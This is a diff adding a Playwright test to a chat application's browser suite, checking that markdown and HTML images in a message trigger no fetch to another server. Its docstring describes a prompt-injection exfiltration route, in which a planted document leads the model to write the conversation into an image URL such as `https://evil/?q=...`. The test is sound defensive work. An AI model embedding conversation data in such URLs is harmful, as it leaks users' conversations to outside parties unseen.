@@ -191,3 +191,29 @@ def test_browser_tells_an_address_that_guessed_too_often_why_its_login_is_refuse
             "too many failed logins or wrong API keys from this address; try again in",
             timeout=30_000)
         expect(page.locator("#cb-chat")).to_have_count(0)
+
+
+def test_an_image_in_a_message_fetches_nothing_from_another_server(served) -> None:
+    """A question, an answer or a passage may hold an image of another server: drawn, it would
+    make each reader's browser fetch its URL, so a document written to make the model put
+    the conversation into one (`![](https://evil/?q=...)`) would send it away unseen."""
+    from playwright.sync_api import expect
+
+    from serving import QuietHandler, http_server
+
+    fetched: list[str] = []
+
+    class Pixel(QuietHandler):
+        def do_GET(self) -> None:
+            fetched.append(self.path)
+            self.reply(200, b"GIF89a", "image/gif")
+
+    url, _ = served
+    with http_server(Pixel) as elsewhere, logged_in_page(url) as page:
+        other = elsewhere.replace("127.0.0.1", "localhost").removesuffix("/v1")
+        box = page.locator("#cb-message textarea")
+        box.fill(f"How do I index ![a]({other}/markdown.gif) <img src='{other}/tag.gif'>?")
+        box.press("Enter")
+        expect(page.locator("#cb-sources .cb-source").first).to_be_visible(timeout=30_000)
+        page.wait_for_timeout(1000)  # time for the browser to fetch what it would
+    assert fetched == []
